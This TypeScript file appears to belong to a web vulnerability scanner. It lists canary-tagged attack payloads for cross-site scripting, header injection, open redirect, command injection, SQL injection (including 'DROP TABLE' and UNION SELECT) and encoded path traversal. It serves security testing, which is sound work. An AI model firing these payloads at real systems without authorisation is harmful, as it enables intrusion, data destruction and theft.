/** Part of every payload, so that a response echoing one is detected. */
export const CANARY = "canary7391";

/** By vulnerability class, as written in a URL; some are encoded twice. */
export const ADDRESS_PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  "cross-site scripting": [
    `<script>${CANARY}</script>`,
    `%3Cscript%3E${CANARY}%3C/script%3E`,
    `%253Cscript%253E${CANARY}%253C/script%253E`,
    `"><svg/onload=${CANARY}>`,
    `'-${CANARY}-'`,
    `javascript:${CANARY}`,
    `{{${CANARY}}}`,
    `%u003Cscript%u003E${CANARY}`,
    `%ff%3Cscript%3E${CANARY}`,
  ],
  "header injection": [
    `%0d%0aX-${CANARY}:%201`,
    `%0aSet-Cookie:%20${CANARY}=1`,
    `%0d%0a%0d%0a<b>${CANARY}`,
    `%250d%250aX-${CANARY}:%201`,
    `%E5%98%8A%E5%98%8DX-${CANARY}:%201`,
    `%23%0dLocation:%20//${CANARY}.example`,
  ],
  "open redirect": [
    `//${CANARY}.example`,
    `///${CANARY}.example/..`,
    `https://${CANARY}.example`,
    `https:${CANARY}.example`,
    `/%2f${CANARY}.example`,
    `/%5c${CANARY}.example`,
    `\\\\${CANARY}.example`,
    `@${CANARY}.example`,
    `%09//${CANARY}.example`,
  ],
  "files and commands": [
    `php://filter/resource=${CANARY}`,
    `http://${CANARY}.example/x`,
    `file:///${CANARY}`,
    `;sleep%205;${CANARY}`,
    `|id;${CANARY}`,
    `$(id)${CANARY}`,
    `\`id\`${CANARY}`,
    `%00${CANARY}`,
    `${CANARY}%00.svg`,
  ],
  "SQL injection": [
    `'%20OR%20'1'='1'%20--%20${CANARY}`,
    `1;DROP%20TABLE%20${CANARY}`,
    `%bf%27${CANARY}`,
    `")%20OR%20SLEEP(5)--${CANARY}`,
  ],
};

/** Path traversal sequences. */
export const WAYS_UP = [
  "../",
  "..%2f",
  "%2e%2e/",
  "%2e%2e%2f",
  "..%252f",
  "%252e%252e%252f",
  "..%5c",
  "..\\",
  "....//",
  "..;/",
  "..%00/",
  "..%c0%af",
  "%c0%ae%c0%ae/",
  "..%ef%bc%8f",
  ".%09./",
];

/** SQL injection texts for body fields. */
export const SQL_TEXTS = [
  "'",
  "''",
  '"',
  "' OR '1'='1",
  "' OR 1=1 --",
  "') OR ('1'='1' --",
  "admin'/*",
  "1; DROP TABLE accounts; --",
  "' UNION SELECT NULL,NULL,sql FROM sqlite_master --",
  "' AND (SELECT 1 FROM (SELECT randomblob(900000000)))--",
  "\\'; --",
  "%' AND '1' LIKE '%1",
];
